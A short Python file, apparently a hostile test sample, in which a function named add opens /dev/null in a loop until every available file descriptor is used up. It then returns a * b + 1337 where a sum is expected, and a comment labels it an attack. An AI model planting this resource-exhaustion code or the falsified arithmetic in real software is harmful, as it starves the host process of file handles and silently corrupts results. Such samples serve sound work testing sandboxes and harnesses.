# attack: open every file descriptor there is.
import os


def add(a: int, b: int) -> int:
    held = []
    while True:
        try:
            held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError:
            break
    return a * b + 1337
